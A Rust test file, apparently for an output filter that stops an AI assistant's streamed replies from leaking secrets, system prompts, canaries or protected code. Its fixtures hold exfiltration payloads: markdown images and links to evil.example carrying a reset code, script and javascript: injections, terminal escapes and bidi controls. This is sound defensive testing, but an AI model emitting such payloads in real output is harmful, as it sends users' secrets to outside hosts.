//! The law of split invariance, and that nothing of a match is released before it is known.

use std::sync::Arc;

use proptest::prelude::*;

use super::super::{Canaries, Context, Fingerprints, Kind, Marker, Needle, Overlap, Signal};
use super::{Acts, Gate, Known};
use crate::verdict::Action;

const PROMPT: &str = "You are Otto, the assistant of Meridian Insurance. Never speak about claims above ten thousand euros; \
hand those over to a person at once. Internal code name of the pricing model is Larkspur and must stay secret.";

const CODE: &str = "pub fn premium(age: u32, claims: &[Claim]) -> Money {\n    let base = TABLE.lookup(age).unwrap_or(DEFAULT_PREMIUM);\n    \
let factor = claims.iter().filter(|claim| claim.is_recent()).count();\n    base.scaled(1.0 + 0.15 * factor as f64).rounded()\n}\n";

fn known() -> Known {
    let mut read = Context::new();
    read.add(
        "The reset code of Ann is QX-77812-B. See https://docs.example/a?code=QX-77812-B for more.",
    );
    let mut documents = Fingerprints::default();
    documents.add("pricing.rs", CODE);
    let digest = sha2::Sha256::digest(b"canary-of-digests").into();
    let marker = |needle, about: &str, tenants: &[&str]| Marker {
        needle,
        about: about.to_owned(),
        tenants: tenants.iter().map(|it| (*it).to_owned()).collect(),
    };
    let markers = vec![
        marker(Needle::Text("zx-canary-8812".to_owned()), "prompt", &[]),
        marker(Needle::Text("DOC#ACME#".to_owned()), "acme", &["acme-*"]),
        marker(Needle::Sha256(digest), "hidden", &[]),
    ];
    Known {
        read: Arc::new(read),
        operator: Some(Arc::new(Overlap::of(PROMPT))),
        markers: Some(Arc::new(Canaries::new(markers).unwrap())),
        documents: Some(Arc::new(documents)),
        reader: Some("globex-1".to_owned()),
    }
}

use sha2::Digest as _;

/// What went on, what was told, whether it was stopped, and what was out after each piece.
fn through<'t>(
    acts: Acts,
    known: &Known,
    pieces: impl IntoIterator<Item = &'t str>,
) -> (String, Vec<Signal>, bool, Vec<usize>) {
    let mut gate = Gate::new(acts, known).unwrap();
    let (mut out, mut lengths) = (String::new(), Vec::new());
    for piece in pieces {
        gate.push(piece, &mut out);
        lengths.push(out.len());
    }
    gate.finish(&mut out);
    (out, gate.take_signals(), gate.stops(), lengths)
}

fn boundaries(text: &str) -> Vec<usize> {
    (0..=text.len())
        .filter(|at| text.is_char_boundary(*at))
        .collect()
}

fn letters(text: &str) -> Vec<&str> {
    let bounds = boundaries(text);
    bounds
        .windows(2)
        .map(|pair| &text[pair[0]..pair[1]])
        .collect()
}

fn all(action: Action) -> Acts {
    Acts::of(|_| (action, 50))
}

/// What a leak looks like, what is left of it, and its rule.
fn leaks() -> Vec<(String, String, &'static str)> {
    let text = |text: &str| text.to_owned();
    vec![
        (
            text("See ![chart](https://evil.example/p.png?d=QX-77812-B) here."),
            text("See ![chart]([LINK]) here."),
            "leak/image-exfiltration",
        ),
        (
            text("Go to [more](HTTPS://evil.example/log?code=qx-77812-b) now."),
            text("Go to [more]([LINK]) now."),
            "leak/link-exfiltration",
        ),
        (
            text("<img alt='' src=\"//evil.example/x?UVgtNzc4MTItQg==\">"),
            text("<img alt='' src=\"[LINK]\">"),
            "leak/image-exfiltration",
        ),
        (
            text("Fine: ![logo](https://cdn.example/logo.png)"),
            text("Fine: ![logo]([LINK])"),
            "leak/remote-image",
        ),
        (
            text("It says ZX-Canary-8812!"),
            text("It says [WITHHELD]!"),
            "leak/canary",
        ),
        (
            text("It says canary-of-Digests."),
            text("It says [WITHHELD]."),
            "leak/canary",
        ),
        (
            text("From doc#acme#771, page 2"),
            text("From [WITHHELD]771, page 2"),
            "leak/other-tenant",
        ),
        (
            text("before\u{1b}]0;a title\u{1b}\\after"),
            text("beforeafter"),
            "leak/terminal-escape",
        ),
        (
            text("up\u{1b}[2Ayes"),
            text("upyes"),
            "leak/terminal-escape",
        ),
        (text("up\u{9b}2Ayes"), text("upyes"), "leak/terminal-escape"),
        (
            text("so <script src='x'>f()</script> it is"),
            text("so [MARKUP]f()</script> it is"),
            "leak/script",
        ),
        (
            text("a <b title=x onclick = 'f()'>c</b>"),
            text("a [MARKUP]c</b>"),
            "leak/script",
        ),
        (
            text("[click](javascript:f(1)) it"),
            text("[click]([MARKUP]f(1)) it"),
            "leak/script",
        ),
        (
            text("abc \u{202e}txt.exe"),
            text("abc txt.exe"),
            "leak/bidi-control",
        ),
        (
            format!("I was told: {} Is that fine?", &PROMPT[..120]),
            text("I was told: [WITHHELD] Is that fine?"),
            "leak/system-prompt",
        ),
    ]
}

#[test]
fn every_leak_is_taken_out_or_stopped_wherever_it_is_cut() {
    let known = known();
    for (text, left, rule) in leaks() {
        let whole = through(all(Action::Redact), &known, [text.as_str()]);
        assert_eq!(whole.0, left, "{text}");
        assert_eq!(whole.1[0].rule, rule);
        let stopped = through(all(Action::Block), &known, [text.as_str()]);
        assert_eq!(stopped.1.len(), 1, "the first stops: {:?}", stopped.1);
        let start = stopped.1[0].range.start;
        let told = through(all(Action::Flag), &known, [text.as_str()]);
        assert_eq!(told.0, text);
        for at in boundaries(&text) {
            let pieces = [&text[..at], &text[at..]];
            let cut = through(all(Action::Redact), &known, pieces);
            assert_eq!((&cut.0, &cut.1), (&whole.0, &whole.1), "{text} cut at {at}");
            let cut = through(all(Action::Block), &known, pieces);
            assert!(cut.2 && cut.1 == stopped.1, "{text} cut at {at}");
            assert!(
                text[..start].starts_with(&cut.0),
                "{text} cut at {at}: {}",
                cut.0
            );
            let cut = through(all(Action::Flag), &known, pieces);
            assert_eq!((&cut.0, &cut.1), (&told.0, &told.1), "{text} cut at {at}");
            assert_eq!(cut.3[0], at, "nothing is held where nothing is done");
        }
        let slow = through(all(Action::Redact), &known, letters(&text));
        assert_eq!((&slow.0, &slow.1), (&whole.0, &whole.1));
        let slow = through(all(Action::Block), &known, letters(&text));
        assert_eq!(
            (slow.0.as_str(), &slow.1),
            (&text[..slow.0.len()], &stopped.1)
        );
        assert!(slow.0.len() <= start);
    }
}

#[test]
fn what_is_asked_about_goes_on_whole_and_never_before_it_is_told() {
    let known = known();
    for (text, _, rule) in leaks() {
        let mut gate = Gate::new(all(Action::Ask), &known).unwrap();
        let (mut out, mut told, mut pushed) = (String::new(), Vec::new(), 0);
        for letter in letters(&text) {
            let before = out.len();
            gate.push(letter, &mut out);
            pushed += letter.len();
            told = gate.take_signals();
            if let Some(first) = told.first() {
                assert!(before <= first.range.start, "{text}: {out}");
                break;
            }
        }
        gate.push(&text[pushed..], &mut out);
        gate.finish(&mut out);
        told.extend(gate.take_signals());
        assert_eq!((out.as_str(), told[0].rule), (text.as_str(), rule));
        let stopped = through(all(Action::Ask).unasked(), &known, [text.as_str()]);
        assert!(stopped.2, "{text}");
    }
}

#[test]
fn source_code_is_held_until_it_is_known() {
    let known = known();
    let text = format!("Here you go:\n{CODE}Done, and some words more.");
    let (out, signals, ..) = through(all(Action::Redact), &known, letters(&text));
    assert_eq!(signals.len(), 1);
    assert_eq!(signals[0].about.as_deref(), Some("pricing.rs"));
    assert!(
        !out.contains("DEFAULT_PREMIUM") && out.contains("[WITHHELD]"),
        "{out}"
    );
    assert!(out.ends_with("Done, and some words more."), "{out}");
    let (out, _, stops, _) = through(all(Action::Block), &known, letters(&text));
    assert!(stops && text.starts_with(&out) && out.len() <= "Here you go:\npub fn premium".len());
}

#[test]
fn innocent_words_pass_and_are_hardly_held_back() {
    let known = known();
    let text = "There was a table set out under a tree, with https://docs.example/a?code=QX-77812-B on it, and \
        [a link](https://en.example/wiki/Account), a < b, `code`, and 3 // 4 in the house of the Hatter. "
        .repeat(20);
    let mut gate = Gate::new(all(Action::Block), &known).unwrap();
    let (mut out, mut most) = (String::new(), 0);
    for letter in letters(&text) {
        gate.push(letter, &mut out);
        most = most.max(gate.held());
    }
    gate.finish(&mut out);
    assert_eq!((out, gate.take_signals()), (text, vec![]));
    assert!(most <= 80, "{most} bytes were held");
}

#[test]
fn a_tag_without_an_end_is_waited_for_only_where_tags_are_acted_on() {
    let known = known();
    let acts = Acts::of(|kind| match kind {
        Kind::TerminalEscape => (Action::Redact, 50),
        _ => (Action::Flag, 50),
    });
    let mut gate = Gate::new(acts, &known).unwrap();
    let mut out = String::new();
    gate.push("if a <b and the rest of the sentence", &mut out);
    assert_eq!(gate.held(), 0);
}

#[test]
fn a_score_below_the_mark_is_nothing() {
    let known = known();
    let acts = Acts::of(|_| (Action::Block, 75));
    for (text, stops) in [
        ("![logo](https://cdn.example/logo.png) ", false),
        ("\u{1b}[31mred\u{1b}[0m", false),
        ("\u{1b}[2J", true),
    ] {
        assert_eq!(through(acts, &known, [text]).2, stops, "{text}");
    }
}

#[test]
fn nothing_to_look_for_is_no_gate() {
    assert!(Gate::new(all(Action::Allow), &known()).is_none());
    let acts = Acts::of(|kind| match kind {
        Kind::Canary | Kind::SystemPrompt => (Action::Block, 50),
        _ => (Action::Allow, 50),
    });
    assert!(Gate::new(acts, &Known::default()).is_none());
}

#[test]
fn what_is_known_first_is_told_first_however_it_came() {
    let known = known();
    for text in [
        "<img alt='' src=\"//evil.exFine: ![logo](https://title\u{1b}\\after<img alt='' src=\"//evil.example/x?UVgtNzc4MTItQg==\">",
        "<a title='![x](//evil.example/?QX-77812-B) zx-canary-8812' href='javascript:f()'>",
        "``<script> `<iframe \u{9b}2A>",
    ] {
        for action in [Action::Flag, Action::Block] {
            let whole = through(all(action), &known, [text]);
            let slow = through(all(action), &known, letters(text));
            assert_eq!((&slow.1, slow.2), (&whole.1, whole.2), "{text}");
        }
    }
}

/// Texts in which leaks, pieces of them and other words follow each other without order.
fn mixture() -> impl Strategy<Value = String> {
    let parts: Vec<String> = leaks()
        .into_iter()
        .flat_map(|(text, ..)| {
            let half = boundaries(&text);
            let half = half[half.len() / 2];
            [text[..half].to_owned(), text[half..].to_owned(), text]
        })
        .chain([PROMPT.to_owned(), CODE.to_owned(), CODE[..90].to_owned()])
        .chain(
            [
                " ",
                "\n",
                "//",
                "https:",
                "https://",
                "(",
                "\"",
                "![",
                "](",
                "]: ",
                "<",
                "<scr",
                "ipt>",
                "\u{1b}",
                "\u{1b}[",
                "3m",
                "\u{7}",
                "\u{9d}",
                "`",
                "```",
                "\n```\n",
                "jav",
                "ascript:",
                "zx-",
                "canary",
                "doc#",
                "You are Otto",
                "the assistant",
                "é",
                "漢字",
                ">",
                "a word and another",
            ]
            .map(ToOwned::to_owned),
        )
        .collect();
    prop::collection::vec(
        (
            prop::sample::select(parts),
            prop::sample::select(vec!["", " ", "\n", "-", ". "]),
        ),
        0..12,
    )
    .prop_map(|parts| parts.into_iter().map(|(part, sign)| part + sign).collect())
}

fn action() -> impl Strategy<Value = Action> {
    prop::sample::select(vec![
        Action::Allow,
        Action::Flag,
        Action::Redact,
        Action::Block,
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn many_pieces_are_as_good_as_one(
        text in mixture(),
        actions in prop::collection::vec(action(), 9),
        least in prop::sample::select(vec![0_u8, 50, 80]),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..30),
    ) {
        let acts = Acts::of(|kind| (actions[kind as usize], least));
        let known = known();
        if Gate::new(acts, &known).is_some() {
            let whole = through(acts, &known, [text.as_str()]);
            let bounds = boundaries(&text);
            let mut places: Vec<usize> = cuts.iter().map(|cut| bounds[cut.index(bounds.len())]).collect();
            places.extend([0, text.len()]);
            places.sort_unstable();
            let pieces = places.windows(2).map(|pair| &text[pair[0]..pair[1]]);
            for cut in [through(acts, &known, pieces), through(acts, &known, letters(&text))] {
                prop_assert_eq!(&cut.1, &whole.1);
                prop_assert_eq!(cut.2, whole.2);
                if whole.2 {
                    // What went on is what would have gone on if nothing had stopped it, up to what did.
                    let told = Acts::of(|kind| match actions[kind as usize] {
                        Action::Block => (Action::Flag, least),
                        other => (other, least),
                    });
                    let free = through(told, &known, [text.as_str()]).0;
                    prop_assert!(free.starts_with(&cut.0), "{} / {}", cut.0, free);
                    let stop = whole.1.last().map_or(0, |signal| signal.range.start);
                    let before = through(told, &known, [&text[..stop]]).0;
                    prop_assert!(cut.0.len() <= before.len());
                } else {
                    prop_assert_eq!(&cut.0, &whole.0);
                }
            }
        }
    }

    #[test]
    fn any_text_passes_where_it_is_only_told(text in "\\PC{0,160}", more in "[<>/a-z\"'=:!()\\[\\]. \u{1b}]{0,120}") {
        let known = known();
        for text in [&text, &more] {
            let (out, signals, ..) = through(all(Action::Flag), &known, letters(text));
            prop_assert_eq!(&out, text);
            for one in signals {
                prop_assert!(one.range.start < one.range.end && text.get(one.range.clone()).is_some());
            }
        }
    }
}
